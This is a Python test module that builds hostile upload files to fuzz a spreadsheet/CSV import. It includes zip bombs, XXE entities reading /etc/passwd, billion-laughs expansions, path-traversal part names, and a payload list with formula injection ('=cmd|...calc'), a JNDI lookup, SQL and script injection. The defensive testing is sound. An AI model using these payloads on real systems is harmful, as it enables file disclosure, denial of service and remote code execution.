"""Files that nobody sends by accident: broken, lying, huge, or made to hurt; all identities in them are generated."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from tests.api.lists.made import HEADERS, as_csv, as_xlsx, rows

XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"


@dataclass(frozen=True)
class Hostile:
    """One file; ``long`` ones are left out of the quick run."""

    label: str
    name: str
    content: bytes
    long: bool = False


def good() -> bytes:
    """A workbook without fault."""
    return as_xlsx(rows(20))


def rezip(content: bytes, changes: Mapping[str, bytes | None], level: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The workbook with parts replaced, added, or (None) taken away."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", level) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, part in changes.items():
            if part is not None:
                new.writestr(name, part)
    return out.getvalue()


def sheet(data: str, dimension: str = "A1:G3", before: str = "", after: str = "") -> bytes:
    """A worksheet part around given rows."""
    return (
        f'{XML}{before}<worksheet xmlns="{MAIN}" xmlns:r="{REL}"><dimension ref="{dimension}"/>'
        f"<sheetData>{data}</sheetData>{after}</worksheet>"
    ).encode()


def inline(cells: Mapping[str, str], row: int) -> str:
    """A row of inline texts."""
    inner = "".join(f'<c r="{col}{row}" t="inlineStr"><is><t>{text}</t></is></c>' for col, text in cells.items())
    return f'<row r="{row}">{inner}</row>'


def header_row() -> str:
    """The headers as row 1."""
    return inline(dict(zip("ABCDEFG", HEADERS, strict=True)), 1)


def zip_bombs() -> Iterator[Hostile]:
    """Small files that unpack to much."""
    zeros = b" " * 30_000_000
    yield Hostile("bomb in the sheet", "a.xlsx", rezip(good(), {SHEET: sheet("") + zeros}))
    yield Hostile("bomb in the strings", "a.xlsx", rezip(good(), {"xl/sharedStrings.xml": zeros}))
    yield Hostile("bomb in a part that nobody reads", "a.xlsx", rezip(good(), {"xl/media/image1.png": zeros}))
    many = {f"xl/media/{i}.bin": b"0" * 9_900_000 for i in range(25)}
    yield Hostile("many parts just below the limit", "a.xlsx", rezip(good(), many), long=True)
    yield Hostile("three thousand parts", "a.xlsx", rezip(good(), {f"xl/x{i}.xml": b"<a/>" for i in range(3_000)}))
    inner = good()
    for depth in range(1, 6):
        inner = rezip(good(), {f"xl/embeddings/level{depth}.xlsx": inner})
        yield Hostile(f"workbook in workbook, {depth} deep", "a.xlsx", inner)
    lying = bytearray(rezip(good(), {SHEET: sheet("") + zeros}))
    start = lying.rfind(b"PK\x01\x02")
    while start >= 0:
        struct.pack_into("<I", lying, start + 24, 10)
        start = lying.rfind(b"PK\x01\x02", 0, start)
    yield Hostile("sizes in the directory are lies", "a.xlsx", bytes(lying))


def entities() -> Iterator[Hostile]:
    """External entities and expansions in every part that is parsed."""
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(1, 12)
    )
    targets = ("file:///etc/passwd", "http://127.0.0.1:9/x", "file:///dev/zero")
    for part in (SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"):
        body = f'<worksheet xmlns="{MAIN}"><sheetData>&x;</sheetData></worksheet>'
        for target in targets:
            xxe = f'{XML}<!DOCTYPE r [<!ENTITY x SYSTEM "{target}">]>{body}'
            yield Hostile(f"entity {target} in {part}", "a.xlsx", rezip(good(), {part: xxe.encode()}))
        yield Hostile(f"billion laughs in {part}", "a.xlsx", rezip(good(), {part: f"{XML}{laughs}]>{body}".encode()}))
        wide = f'{XML}<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>{body}'
        yield Hostile(f"entity in UTF-16 in {part}", "a.xlsx", rezip(good(), {part: wide.encode("utf-16")}))


def lies_about_size() -> Iterator[Hostile]:
    """Sheets that claim, or reach, more than they hold."""
    head = header_row()
    for reference in ("A1:XFD1048576", "A1:G1000001", "A1:XFD2", "Z9:A1", "A0:A0", "nonsense", "A1:ZZZZZ99999999999",
        ""):
        part = sheet(head, reference)
        yield Hostile(f"dimension {reference!r}", "a.xlsx", rezip(good(), {SHEET: part}))
    corners = ("XFD1048576", "XFD2", "A1048576", "ZZZ1", "A99999999999", "AAAA1", "XFE1", "A0", "1A", "", "A-1", "ÄÖ1")
    for corner in corners:
        part = sheet(f'{head}<row r="2"><c r="{corner}" t="inlineStr"><is><t>x</t></is></c></row>')
        yield Hostile(f"one cell at {corner!r}", "a.xlsx", rezip(good(), {SHEET: part}))
    for number in ("0", "-1", "99999999999999", "x", "1048577"):
        part = sheet(f'{head}<row r="{number}"><c><v>1</v></c></row>')
        yield Hostile(f"row number {number}", "a.xlsx", rezip(good(), {SHEET: part}))
    million = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(2, 1_000_001))
    yield Hostile("a million rows", "a.xlsx", rezip(good(), {SHEET: sheet(head + million)}), long=True)
    rows_300k = as_csv([["测试", "1", "2", "x", "绿", "2020", "2020"]] * 300_000)
    yield Hostile("three hundred thousand rows of CSV", "a.csv", rows_300k, long=True)
    wide = as_csv([["x"] * 16_384], [f"列{i}" for i in range(16_384)])
    yield Hostile("sixteen thousand columns of CSV", "a.csv", wide)
    yield Hostile("known headers, then a thousand more", "a.csv",
        as_csv([], [*HEADERS, *(f"列{i}" for i in range(1_000))]))
    columns = "".join(f'<c r="{_letters(i)}1" t="inlineStr"><is><t>h{i}</t></is></c>' for i in range(16_384))
    yield Hostile("sixteen thousand columns", "a.xlsx", rezip(good(), {SHEET: sheet(f'<row r="1">{columns}</row>')}))
    long_text = "长" * 1_000_000
    many = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(2, 20_000))
    strings = f'{XML}<sst xmlns="{MAIN}"><si><t>{long_text}</t></si></sst>'.encode()
    quadratic = rezip(good(), {SHEET: sheet(header_row() + many), "xl/sharedStrings.xml": strings})
    yield Hostile("one long text in twenty thousand cells", "a.xlsx", quadratic)


def _letters(position: int) -> str:
    text, rest = "", position + 1
    while rest:
        rest, digit = divmod(rest - 1, 26)
        text = chr(65 + digit) + text
    return text


def broken_parts() -> Iterator[Hostile]:
    """Workbooks with parts missing, twice, or of another kind."""
    parts = zipfile.ZipFile(io.BytesIO(good())).namelist()
    for part in parts:
        yield Hostile(f"without {part}", "a.xlsx", rezip(good(), {part: None}))
        yield Hostile(f"{part} empty", "a.xlsx", rezip(good(), {part: b""}))
        yield Hostile(f"{part} is noise", "a.xlsx", rezip(good(), {part: random.Random(1).randbytes(5_000)}))
    deep = "<a>" * 100_000
    yield Hostile("a hundred thousand levels deep", "a.xlsx", rezip(good(), {SHEET: sheet(deep)}))
    yield Hostile("an attribute of a megabyte", "a.xlsx",
        rezip(good(), {SHEET: sheet(f'<row r="{"1" * 1_000_000}"/>')}))
    macro = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"x" * 500}
    yield Hostile("with macros", "a.xlsx", rezip(good(), macro))
    yield Hostile("with macros, by its name too", "a.xlsm", rezip(good(), macro))
    out = io.BytesIO(good())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(SHEET, sheet(header_row()))
    yield Hostile("a part twice", "a.xlsx", out.getvalue())
    for name in ("../../etc/cron.d/x", "/etc/passwd", "xl/../../x", "con", "xl\\worksheets\\sheet1.xml", "x" * 60_000):
        yield Hostile(f"a part called {name[:20]}", "a.xlsx", rezip(good(), {name: b"x"}))
    for index in range(50):
        refs = random.Random(index).choice(("t=\"s\"><v>999999999</v>", "t=\"s\"><v>-1</v>", "t=\"zz\"><v>1</v>",
            "><v>1e999</v>",
            "><v>NaN</v>", "t=\"d\"><v>9999-99-99</v>", "t=\"b\"><v>7</v>", "t=\"e\"><v>#REF!</v>",
            "s=\"99999\"><v>1</v>",
            "t=\"str\"><f>1/0</f><v>x</v>"))  # fmt: skip
        row = f'<row r="2"><c r="{_letters(index % 7)}2" {refs}</c></row>'
        yield Hostile(f"odd cell {index}", "a.xlsx", rezip(good(), {SHEET: sheet(header_row() + row)}))


def truncated() -> Iterator[Hostile]:
    """Files cut off, and files with bytes changed."""
    whole = good()
    for share in range(2, 100, 2):
        yield Hostile(f"workbook cut at {share} %", "a.xlsx", whole[: len(whole) * share // 100])
    for seed in range(40):
        chance = random.Random(seed)
        content = bytearray(whole)
        for _ in range(chance.randint(1, 30)):
            content[chance.randrange(len(content))] = chance.randrange(256)
        yield Hostile(f"workbook with flipped bytes {seed}", "a.xlsx", bytes(content))
    text = as_csv(rows(5), encoding="gb18030")
    for cut in range(1, 40, 3):
        yield Hostile(f"GB18030 without its last {cut} bytes", "a.csv", text[:-cut])


def wrong_magic() -> Iterator[Hostile]:
    """Files that are not what their names say."""
    chance = random.Random(7)
    bodies = {
        "nothing": b"", "one byte": b"P", "PK alone": b"PK\x03\x04", "an empty zip": b"PK\x05\x06" + b"\0" * 18,
        "a page": b"<html><table><tr><td>x</table></html>", "a PDF": b"%PDF-1.7\n" + chance.randbytes(500),
        "an image": b"\x89PNG\r\n\x1a\n" + chance.randbytes(500), "a program": b"\x7fELF" + chance.randbytes(900),
        "compound noise": bytes.fromhex("d0cf11e0a1b11ae1") + chance.randbytes(3_000),
        "compound zeros": bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 3_000,
        "a locked workbook": bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le"),
        "noise": chance.randbytes(10_000), "zeros": b"\0" * 10_000,
        "SpreadsheetML": b'<?xml version="1.0"?><Workbook/>',
    }  # fmt: skip
    for what, body in bodies.items():
        for name in ("a.xlsx", "a.xls", "a.csv"):
            yield Hostile(f"{what} as {name}", name, body)
    for name in ("a", "a.exe", "a.xlsx.exe", "a.ods", ".xlsx", "a.XLSX", "../../a.xlsx", "a\x00.xlsx",
        "名单" * 300 + ".csv"):
        yield Hostile(f"the name {name[:12]!r}", name, good())
    header = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    for seed in range(25):
        chain = random.Random(seed)
        body = b"".join(struct.pack("<I",
            chain.choice((0, 1, 2, 0xFFFFFFFE, 0xFFFFFFFF, 7, 1 << 30))) for _ in range(900))
        yield Hostile(f"compound file with wild chains {seed}", "a.xls", header + body)


def odd_text() -> Iterator[Hostile]:
    """CSV files with everything that text can carry."""
    line = ",".join(HEADERS)
    bodies = {
        "NUL bytes": f"{line}\n\0测\0试,\0,1,x,绿,2020,2020\n", "only quotes": '"' * 50_000,
        "an open quote": f'{line}\n"a,b',
        "a huge cell": f"{line}\n{'测' * 5_000_000},1,2,3,4,5,6\n", "one endless line": "," * 3_000_000,
        "empty lines": "\n" * 500_000, "only a header": line + "\n", "a header twice": f"{line}\n{line}\n",
        "old line ends": f"{line}\r1,2,3,4,5,6,7\r", "ragged": f"{line}\n1\n1,2,3,4,5,6,7,8,9\n",
        "right-to-left": f"{line}\n\u202e试测,1,2,3,4,5,6\n",
        "private signs": f"{line}\n\ue000测,\ue004,\uf8ff,3,4,5,6\n",
        "zero width": "\u200b,".join(HEADERS) + "\n1,2,3,4,5,6,7\n",
        "semicolons": ";".join(HEADERS) + "\n1;2;3;4;5;6;7\n",
        "tabs": "\t".join(HEADERS) + "\n1\t2\t3\t4\t5\t6\t7\n", "many quotes": f"{line}\n" + '""' * 100_000 + "\n",
        "combining": f"{line}\na{chr(0x301) * 20_000},1,2,3,4,5,6\n",
    }  # fmt: skip
    for what, text in bodies.items():
        for encoding in ("utf-8", "gb18030", "utf-16"):
            yield Hostile(f"{what} in {encoding}", "a.csv", text.encode(encoding))
    payloads = ("=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(1)", "=HYPERLINK(\"http://x\")", "\t=1", "|calc", "＝1+1",
        "<script>alert(1)</script>",
        "'; DROP TABLE workers;--", "{{7*7}}", "${jndi:ldap://x}", "%s%n", "../../etc/passwd")  # fmt: skip
    for position in range(7):
        for payload in payloads:
            body = rows(1)
            body[0][position] = payload
            yield Hostile(f"{payload[:14]} in column {position}", "a.csv", as_csv(body))
    for payload in payloads:
        yield Hostile(f"{payload[:14]} as a header", "a.csv", as_csv([[*rows(1)[0], "x"]], [*HEADERS, payload]))
    merged = sheet(header_row() + inline({"A": "x"}, 2),
        after='<mergeCells count="1"><mergeCell ref="A1:XFD1"/></mergeCells>')
    yield Hostile("headers merged over the whole row", "a.xlsx", rezip(good(), {SHEET: merged}))


def all_files() -> list[Hostile]:
    """Every hostile file."""
    kinds = (zip_bombs, entities, lies_about_size, broken_parts, truncated, wrong_magic, odd_text)
    return [file for kind in kinds for file in kind()]
